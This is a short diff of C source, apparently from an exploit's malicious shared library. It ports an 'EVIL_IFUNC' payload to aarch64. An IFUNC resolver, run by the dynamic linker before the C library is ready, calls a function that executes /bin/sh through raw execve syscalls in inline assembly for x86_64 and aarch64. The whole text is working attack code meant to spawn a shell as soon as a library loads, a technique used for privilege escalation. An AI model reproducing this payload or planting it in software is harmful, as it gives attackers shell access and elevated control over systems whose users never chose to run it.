@@ -230,16 +230,33 @@ static void greet(uint32_t types, int fd)
 #define EVIL_EARLY EVIL_NOTHING
 #endif
 
-#if defined(EVIL_IFUNC) && defined(__x86_64__)
-/* Run by the linker before anything is in its place: no library, no data. */
-__attribute__((used)) static void (*resolve(void))(void)
+#ifdef EVIL_IFUNC
+static const char shell[] = "/bin/sh";
+
+static void shell_start(void)
 {
-    static const char path[] = "/bin/sh";
+#if defined(__x86_64__)
     long result = SYS_execve;
 
     __asm__ volatile("syscall" : "+a"(result)
-                     : "D"(path), "S"(0L), "d"(0L)
+                     : "D"(shell), "S"(0L), "d"(0L)
                      : "rcx", "r11", "memory");
+#elif defined(__aarch64__)
+    register long number __asm__("x8") = SYS_execve;
+    register const char *path __asm__("x0") = shell;
+    register long argv __asm__("x1") = 0, envp __asm__("x2") = 0;
+
+    __asm__ volatile("svc #0" : "+r"(path) : "r"(number), "r"(argv),
+                     "r"(envp) : "memory");
+#else
+#error "write execve() of this machine, without the C library"
+#endif
+}
+
+/* Run by the linker before anything is in its place: no library, no data. */
+__attribute__((used)) static void (*resolve(void))(void)
+{
+    shell_start();
     return NULL;
 }
 
